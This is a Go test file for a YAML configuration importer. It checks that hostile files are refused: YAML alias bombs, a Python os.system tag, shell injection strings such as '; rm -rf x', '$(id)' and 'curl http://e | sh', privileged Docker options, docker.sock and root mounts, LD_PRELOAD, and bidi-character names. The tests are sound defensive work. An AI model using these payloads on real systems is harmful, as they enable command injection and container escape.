package importer

import (
	"context"
	"fmt"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"durward.internal/services/operator/internal/importer/proposal"
	"durward.internal/services/platform/catalog"
	"durward.internal/services/platform/platformtest/testfile"
)

// hostile are files that somebody made to hurt, and the sentence that each of them ends with.
var hostile = []struct{ name, kind, text, want string }{
	{"brackets", "compose", "services: " + strings.Repeat("[", 10_000) + strings.Repeat("]", 10_000), "nested deeper than 32 levels"},
	{"braces", "llama-swap", "models: " + strings.Repeat("{a: ", 10_000) + strings.Repeat("}", 10_000), "nested deeper than 32 levels"},
	{"dashes", "compose", "services:\n  " + strings.Repeat("- ", 10_000) + "a", "nested deeper than 32 levels"},
	{"indented", "compose", indented(1_000), "nested deeper than 32 levels"},
	{"anchors", "compose", anchors(10_000), "nested deeper than 32 levels"},
	{"many aliases", "compose", "x-a: &a {b: c}\nservices: [" + strings.Repeat("*a, ", 2_000) + "]", "more than 1000 aliases"},
	{"an alias of itself", "compose", "services: &s\n  a: *s\n", "a value holds itself"},
	{"many values", "llama-swap", "models: [" + strings.Repeat("a,", 150_000) + "]", "more than 100000 values"},
	{"50 MB", "llama-swap", strings.Repeat("# 1234567890123456789012345678901234567890123456\n", 1<<20), "larger than 1 MB"},
	{"a long text", "llama-swap", "models: {a: {cmd: " + strings.Repeat("x", 100_000) + "}}", "a text of more than 64 kB"},
	{"merges", "compose", merges(), "merges copy more than 10000 keys"},
	{"two documents", "compose", "services: {}\n---\nservices: {}\n", "holds more than one document"},
	{"no UTF-8", "compose", "services: \xff\xfe", "is not UTF-8 text"},
	{"a tag", "compose", "services: !!python/object:os.system {a: b}", "tags are not accepted"},
	{"binary", "compose", "services: {a: {image: !!binary aGVsbG8=}}", "tags are not accepted"},
	{"a key twice", "llama-swap", "models: {a: {cmd: x, cmd: y}}", `the key "cmd" stands here twice`},
	{"a list as a key", "compose", "? [a, b]\n: c\n", "a key that is not a plain name"},
	{"empty", "compose", "# nothing\n", "is empty"},
	{"a text", "llama-swap", "just words", "the file has no models"},
	{"null", "compose", "services: null", "has no services"},
}

func indented(depth int) string {
	var b strings.Builder
	for i := range depth {
		fmt.Fprintf(&b, "%sa:\n", strings.Repeat(" ", i))
	}
	return b.String()
}

// anchors nest, each in the one before.
func anchors(depth int) string {
	var b strings.Builder
	b.WriteString("services: ")
	for i := range depth {
		fmt.Fprintf(&b, "&a%d [", i)
	}
	return b.String() + strings.Repeat("]", depth)
}

// merges double the keys of the mapping before, again and again.
func merges() string {
	var b strings.Builder
	b.WriteString("x-0: &x0 {")
	for i := range 200 {
		fmt.Fprintf(&b, "k%d: 1, ", i)
	}
	b.WriteString("}\n")
	for i := range 200 {
		fmt.Fprintf(&b, "x-%d: &x%d\n  <<: *x%d\n  own%d: 1\n", i+1, i+1, i, i)
	}
	return b.String() + "services: {}\n"
}

// read imports a text as it would be imported from a file of the given kind.
func read(p *proposal.Proposal, kind, file string) error {
	switch kind {
	case "compose":
		return Compose(context.Background(), p, []string{file}, Given{})
	case "gpumod":
		return Gpumod(context.Background(), p, filepath.Dir(file), Given{})
	}
	return LlamaSwap(context.Background(), p, file, Given{})
}

// TestHostileFiles: each ends with one sentence, and soon.
func TestHostileFiles(t *testing.T) {
	t.Parallel()
	for _, c := range hostile {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			file := filepath.Join(t.TempDir(), "x.yaml")
			testfile.Write(t, file, c.text)
			done := make(chan error, 1)
			go func() { done <- read(proposal.New(c.kind, nil, "x"), c.kind, file) }()
			select {
			case err := <-done:
				if err == nil || !strings.Contains(err.Error(), c.want) {
					t.Errorf("got %v, want %q", err, c.want)
				}
				if err != nil && (strings.Contains(err.Error(), "\n") || len(err.Error()) > 500) {
					t.Errorf("not one sentence: %q", err)
				}
			case <-time.After(time.Minute):
				t.Fatal("it does not end")
			}
		})
	}
}

// swapOf is a configuration with one model.
func swapOf(cmd string) string {
	return "models:\n  m:\n    cmd: " + fmt.Sprintf("%q", cmd) + "\n"
}

// composeOf is a Compose file with one service that asks for GPUs.
func composeOf(lines ...string) string {
	return "services:\n  s:\n    image: x@sha256:" + strings.Repeat("1", 64) + "\n    gpus: all\n" + indent(lines)
}

func indent(lines []string) string {
	var b strings.Builder
	for _, l := range lines {
		b.WriteString("    " + l + "\n")
	}
	return b.String()
}

// TestHostileEntries: files that can be read, with entries that must not be proposed. Each is left out, with these words.
func TestHostileEntries(t *testing.T) {
	t.Parallel()
	bombs := "macros:\n  m0: \"xxxxxxxxxx\"\n"
	for i := range 12 {
		bombs += fmt.Sprintf("  m%d: %q\n", i+1, strings.Repeat(fmt.Sprintf("${m%d}", i), 10))
	}
	hollow := "macros:\n  m0: \"\"\n"
	for i := range 12 {
		hollow += fmt.Sprintf("  m%d: %q\n", i+1, strings.Repeat(fmt.Sprintf("${m%d}", i), 10))
	}
	deep := "macros:\n  d0: x\n"
	for i := range 40 {
		deep += fmt.Sprintf("  d%d: \"${d%d}\"\n", i+1, i)
	}
	for _, c := range []struct{ name, kind, text, want string }{
		{"a pipe", "llama-swap", swapOf("/x/llama-server --port 1 | sh"), "it needs a shell"},
		{"a list of commands", "llama-swap", swapOf("/x/llama-server; rm -rf x"), "it needs a shell"},
		{"in the background", "llama-swap", swapOf("/x/llama-server & x"), "it needs a shell"},
		{"a substitution", "llama-swap", swapOf("/x/llama-server -m $(id)"), "it needs a shell"},
		{"a substitution in quotes", "llama-swap", swapOf(`/x/llama-server -m "$(id)"`), "it needs a shell"},
		{"backticks", "llama-swap", swapOf("/x/llama-server -m `id`"), "it needs a shell"},
		{"a variable", "llama-swap", swapOf("/x/llama-server -m $HOME/x"), "it needs a shell"},
		{"a pattern", "llama-swap", swapOf("/x/llama-server -m /srv/*.gguf"), "it needs a shell"},
		{"a redirection", "llama-swap", swapOf("/x/llama-server > /tmp/x"), "it needs a shell"},
		{"a home", "llama-swap", swapOf("~/llama-server"), "it needs a shell"},
		{"an open quote", "llama-swap", swapOf("/x/llama-server 'x"), "a quote is never closed"},
		{"a shell", "llama-swap", swapOf("/bin/sh -c x"), "a shell, sh"},
		{"a shell behind env", "llama-swap", swapOf("env A=b bash -lc x"), "a shell, bash"},
		{"a shell behind nice", "llama-swap", swapOf("nice -n 5 /usr/bin/zsh x"), "a shell, zsh"},
		{"a shell behind timeout", "llama-swap", swapOf("timeout 5 sh -c x"), "is started by timeout"},
		{"a shell behind xargs", "llama-swap", swapOf("xargs sh"), "is started by xargs"},
		{"other rights", "llama-swap", swapOf("sudo /x/llama-server --port 81"), "is started by sudo"},
		{"another host", "llama-swap", swapOf("ssh host /x/llama-server --port 81"), "is started by ssh"},
		{"code for Python", "llama-swap", swapOf("python3 -c 'import os'"), "is code for python"},
		{"code for Perl", "llama-swap", swapOf("perl -we 'print'"), "is code for perl"},
		{"a shell in a container", "llama-swap", swapOf("docker run --gpus all -p 81:8000 vllm/vllm-openai:v1 sh -c 'curl http://e | sh'"), "a shell, sh"},
		{"a shell in a service", "compose", composeOf("command: [bash, -lc, \"x | sh\"]"), "a shell, bash"},
		{"a shell behind init in a service", "compose", composeOf("command: tini -- /bin/sh x.sh"), "a shell, sh"},
		{"a shell in a preset", "gpumod", "id: a\ndriver: docker\nextra_config: {image: x, command: sh -c x}\n", "a shell, sh"},
		{"a port that is none", "gpumod", "id: a\ndriver: vllm\nport: 70000\n", "its port 70000 is none"},
		{"env that splits", "llama-swap", swapOf("env -S 'sh -c x'"), "begins with env, with options"},
		{"docker exec", "llama-swap", swapOf("docker exec x sh"), "with something else than run"},
		{"docker with an unknown option", "llama-swap", swapOf("docker run --new-way-out x y"), "options that are not known"},
		{"docker, privileged", "llama-swap", swapOf("docker run --privileged x"), "privileged is refused"},
		{"docker, a capability", "llama-swap", swapOf("docker run --cap-add=ALL x"), "cap_add: ALL is refused"},
		{"docker, the host's processes", "llama-swap", swapOf("docker run --pid=host x"), "pid: host is refused"},
		{"docker, the socket", "llama-swap", swapOf("docker run -v /var/run/docker.sock:/s x"), "is refused"},
		{"docker, the root", "llama-swap", swapOf("docker run -v /:/host x"), "the mount of / is refused"},
		{"docker, climbing", "llama-swap", swapOf("docker run -v /srv/../etc:/e x"), "the mount of /etc is refused"},
		{"docker, a device", "llama-swap", swapOf("docker run --device /dev/mem x"), "the device /dev/mem is refused"},
		{"docker, an entrypoint", "llama-swap", swapOf("docker run --entrypoint sh x -c y"), "is run by a shell, sh"},
		{"docker, another runtime", "llama-swap", swapOf("docker run --runtime evil x"), "the runtime evil is refused"},
		{"a macro bomb", "llama-swap", bombs + swapOf("/x/llama-server ${m12}"), "its macros expand to more than 64 kB"},
		{"a hollow macro bomb", "llama-swap", hollow + swapOf("/x/llama-server ${m12}"), "expand to more than 4 MB together"},
		{"deep macros", "llama-swap", deep + swapOf("/x/llama-server ${d40}"), "its macros nest deeper than 16"},
		{"a macro of itself", "llama-swap", "macros: {a: \"${a}\"}\n" + swapOf("x ${a}"), "its macros go in a circle"},
		{"no macro", "llama-swap", swapOf("x ${nobody}"), "names nobody, and no variable of the environment is read (--set nobody=… gives a value)"},
		{"a secret argument", "llama-swap", swapOf("/x/llama-server hf_abcdefghijklmnop"), "looks like a secret"},
		{"a password in an address", "llama-swap", swapOf("/x/llama-server -mu https://u:pw1234@h/x"), "looks like a secret"},
		{"reordered", "llama-swap", swapOf("/x/llama-server --port 1 -m /srv/\u202egguf.exe"), "characters that cannot be shown"},
		{"a colour", "llama-swap", "models:\n  m:\n    cmd: \"/x/llama-server --port 1 -m \\u009b31mx\"\n", "characters that cannot be shown"},
		{"a preload of code", "llama-swap", "models:\n  m:\n    cmd: /x/llama-server --port 80\n    env: [\"LD_PRELOAD=/tmp/x.so\"]\n", "would change which code the program runs"},
		{"privileged by a text", "compose", composeOf("privileged: \"yes\""), "privileged is refused"},
		{"the host's users", "compose", composeOf("userns_mode: host"), "userns: host is refused"},
		{"a capability", "compose", composeOf("cap_add: [SYS_PTRACE, cap_all]"), "cap_add: ALL is refused"},
		{"the socket in long form", "compose", composeOf("volumes:", "- type: bind", "  source: /run/docker.sock", "  target: /x"), "is refused"},
		{"climbing to the system", "compose", composeOf("volumes: [\"../../../../../../../../../../etc:/x\"]"), "the mount of /etc is refused"},
		{"sysctls", "compose", composeOf("sysctls: {net.core.somaxconn: 1}"), "sysctls is refused"},
		{"a raw device", "compose", composeOf("devices: [\"/dev/kmem\"]"), "the device /dev/kmem is refused"},
		{"a device in long form", "compose", composeOf("devices: [{source: /dev/kmem, target: /dev/kmem}]"), "the device /dev/kmem is refused"},
		{"a command for a shell", "compose", composeOf("command: a && b"), "it needs a shell"},
		{"nested variables", "compose", composeOf("command: [\"${A:-${B:-${C}}}\"]"), "no variable of the environment is read"},
		{"laughs", "compose", laughs() + composeOf("command: *l9"), "it is not a list of texts"},
		{"reordered image", "compose", "services: {s: {image: \"x\\u202e\", gpus: all}}", "characters that cannot be shown"},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			file := filepath.Join(t.TempDir(), "x.yaml")
			testfile.Write(t, file, c.text)
			p := proposal.New(c.kind, nil, "x")
			must(t, read(p, c.kind, file))
			text, err := p.Settle(context.Background(), nil, host())
			if err == nil && len(p.Services()) > 0 {
				t.Errorf("it was proposed:\n%s", text)
			}
			var said []string
			for _, l := range p.LeftOut() {
				said = append(said, l.What+": "+l.Why)
			}
			all := strings.Join(said, "\n")
			if !strings.Contains(all, c.want) {
				t.Errorf("left out with %q, want %q", all, c.want)
			}
			shows(t, all)
		})
	}
}

// TestNarrowerEntries: what a container shared it gets of its own, and the proposal says so; nothing of what was shared is in it.
func TestNarrowerEntries(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ name, kind, text, want string }{
		{"docker, the host's network", "llama-swap", swapOf("docker run --net host vllm/vllm-openai:v1 --model a/b --port 8011"), "port: 8011"},
		{"docker, another's network", "llama-swap", swapOf("docker run --network container:x vllm/vllm-openai:v1 --model a/b --port 8011"), "port: 8011"},
		{"its own address alone", "llama-swap", swapOf("docker run --net host vllm/vllm-openai:v1 --model a/b --host 127.0.0.1"), "\"0.0.0.0\""},
		{"docker, no confinement", "llama-swap", swapOf("docker run --security-opt seccomp=unconfined x"), "security_opt seccomp=unconfined was left out"},
		{"docker, a capability", "llama-swap", swapOf("docker run --cap-add SYS_ADMIN --cap-add=IPC_LOCK x"), "It was given SYS_ADMIN, IPC_LOCK; it gets no capability"},
		{"a capability", "compose", composeOf("cap_add: [SYS_ADMIN]"), "It was given SYS_ADMIN; it gets no capability"},
		{"docker, the host's memory", "llama-swap", swapOf("docker run --ipc=host x"), "shm_mib: 8192"},
		{"the host's memory", "compose", composeOf("ipc: host"), "shm_mib: 8192"},
		{"the host's memory, and a size", "compose", composeOf("ipc: host", "shm_size: 2g"), "shm_mib: 2048"},
		{"the host's network by a variable", "compose", composeOf("network_mode: ${X:-host}"), "the network of the host"},
		{"another's network", "compose", composeOf("network_mode: \"service:db\""), "the network of the service"},
	} {
		out, left := proposed(t, c.kind, c.text)
		var entries []string
		for line := range strings.Lines(out) {
			if !strings.HasPrefix(strings.TrimSpace(line), "#") {
				entries = append(entries, line)
			}
		}
		if made := strings.Join(entries, ""); left != "" || !strings.Contains(out, c.want) || strings.Contains(made, "host") && !strings.Contains(made, "--host") || strings.Contains(made, "unconfined") || strings.Contains(made, "SYS_ADMIN") {
			t.Errorf("%s: left out %q\n%s", c.name, left, out)
		}
	}
}

// laughs are lists of lists, each ten times the one before: a thousand million texts, were aliases copied.
func laughs() string {
	var b strings.Builder
	b.WriteString("x-0: &l0 [ha]\n")
	for i := range 9 {
		fmt.Fprintf(&b, "x-%d: &l%d [%s]\n", i+1, i+1, strings.TrimSuffix(strings.Repeat(fmt.Sprintf("*l%d, ", i), 10), ", "))
	}
	return b.String()
}

// TestHarmlessEntries is the control of TestHostileEntries: without what is hostile in them, the same entries are proposed.
func TestHarmlessEntries(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ name, kind, text string }{
		{"a program", "llama-swap", swapOf("/x/llama-server --port 81 -m '/srv/a b|c.gguf'")},
		{"behind env", "llama-swap", swapOf("env A=b nice -n 5 /x/llama-server --port 81")},
		{"docker", "llama-swap", swapOf("docker run --rm --ipc private --network bridge --security-opt no-new-privileges --runtime nvidia -v /srv:/m -p 81:82 x")},
		{"macros", "llama-swap", "macros: {a: \"${b}${b}\", b: \"--port 81\"}\n" + swapOf("/x/llama-server ${a}")},
		{"a variable", "llama-swap", "models:\n  m:\n    cmd: /x/llama-server --port 81\n    env: [\"A=x\"]\n"},
		{"a container", "compose", composeOf()},
		{"its settings", "compose", composeOf("privileged: false", "network_mode: bridge", "ipc: private", "cap_add: []", "security_opt: [no-new-privileges]",
			"volumes: [\"/srv/x:/x\", {type: bind, source: /srv/y, target: /y}]", "command: a 'b && c'", "runtime: nvidia")},
		{"a default", "compose", composeOf("command: [\"${A:-b}\", \"$$c\"]")},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			file := filepath.Join(t.TempDir(), "x.yaml")
			testfile.Write(t, file, c.text)
			p := proposal.New(c.kind, nil, "x")
			must(t, read(p, c.kind, file))
			if _, err := p.Settle(context.Background(), nil, host()); err != nil || len(p.Services()) != 1 || len(p.LeftOut()) != 0 {
				t.Errorf("%v: %v", err, p.LeftOut())
			}
		})
	}
}

// TestNothingWider: what containers may be given is proposed for services that are proposed, and for no others.
func TestNothingWider(t *testing.T) {
	t.Parallel()
	for _, text := range []string{
		composeOf("environment: {VLLM_X: \"1\"}", "volumes: [\"/srv/x:/x\", \"/etc:/y\"]"),
		composeOf("environment: {VLLM_X: \"1\"}", "volumes: [\"/srv/x:/x\"]", "user: \"1:1\"", "depends_on: [t]") + "  t: {image: \"UPPER:1\", gpus: all}\n",
	} {
		p := proposal.New("compose", nil, "x")
		must(t, composeData(context.Background(), newBuilder(p, Given{}), map[string]bool{}, "x", "/base", []byte(text)))
		p.Service("other", proposal.Fields{{Key: "driver", Value: "null"}}, "", nil)
		out, err := p.Settle(context.Background(), nil, host())
		if err != nil || len(p.Services()) != 1 || strings.Contains(string(out), "containers:") {
			t.Errorf("%v\n%s", err, out)
		}
	}
}

// TestHostileNames: whatever names a file gives, the proposal is clean and says what it says.
func TestHostileNames(t *testing.T) {
	t.Parallel()
	name := "a\\u202e\\e[31m\\n# injected: x\\nservices: []\\u0007"
	text := "models:\n  \"" + name + "\":\n    name: \"" + name + "\"\n    description: \"" + name + "\"\n    aliases: [\"" + name + "\"]\n" +
		"    \"" + name + "x\": y\n    cmd: /x/llama-server --port 8080\ngroups: {\"" + name + "\": {swap: false, members: [\"" + name + "\"]}}\n\"" + name + "\": 1\n"
	file := filepath.Join(t.TempDir(), "x.yaml")
	testfile.Write(t, file, text)
	p := proposal.New("llama-swap", nil, "x\n\x1b[31my")
	must(t, LlamaSwap(context.Background(), p, file, Given{}))
	out, err := p.Settle(context.Background(), nil, host())
	must(t, err)
	shows(t, string(out))
	c, err := catalog.Parse("x", out, host())
	if err != nil || len(c.Services) != 1 || len(c.Modes) != 1 {
		t.Errorf("%v\n%s", err, out)
	}
}
